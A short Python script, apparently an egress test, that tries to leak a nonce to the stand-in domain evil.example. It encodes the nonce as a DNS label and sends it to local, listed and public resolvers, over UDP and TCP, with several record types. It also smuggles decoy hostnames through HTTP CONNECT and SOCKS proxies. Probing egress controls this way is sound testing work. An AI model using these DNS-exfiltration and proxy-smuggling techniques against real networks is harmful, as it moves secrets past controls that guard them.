"""The secret is a label; what arrives at any name server has it."""

import re
import socket
import struct

from net import HOST, connect, lookup, query, through_connect, through_socks
from probe import attempt, facts

with open("/etc/resolv.conf", encoding="utf-8") as file:
    LISTED = re.findall(r"(?m)^nameserver\s+(\S+)", file.read())
SERVERS = {"listed": LISTED[0], "stub": "127.0.0.53", "public": "8.8.8.8", "six": "2001:4860:4860::8888"}
TYPES = {"txt": 16, "any": 255, "null": 10, "mx": 15, "https": 65}


def by_stream(server, name):
    packet = query(name)
    stream = connect(server, 53)
    stream.sendall(struct.pack(">H", len(packet)) + packet)
    stream.recv(2)


def secret(probe, below="evil.example"):
    return f"{facts['NONCE'].lower()}.try-{probe}.{below}"


attempt("library", lambda: socket.getaddrinfo(secret("library"), 80) and None)
attempt("below-allowed", lambda: socket.getaddrinfo(secret("below-allowed", HOST), 80) and None)
for name, server in SERVERS.items():
    attempt(name, lambda: lookup(server, query(secret(name))) and None)
    attempt(f"{name}-tcp", lambda: by_stream(server, secret(f"{name}-tcp")))
for name, kind in TYPES.items():
    attempt(name, lambda: lookup(LISTED[0], query(secret(name), kind)) and None)
attempt("appended", lambda: lookup(LISTED[0], query(HOST, extra=b" try-appended ")) and None)
decoy = secret("connect", f"evil.example#{HOST}").encode()
attempt("connect", lambda: through_connect(decoy + b":80").close())
decoy = secret("socks", f"evil.example#{HOST}").encode()
attempt("socks", lambda: through_socks(decoy, 80).close())
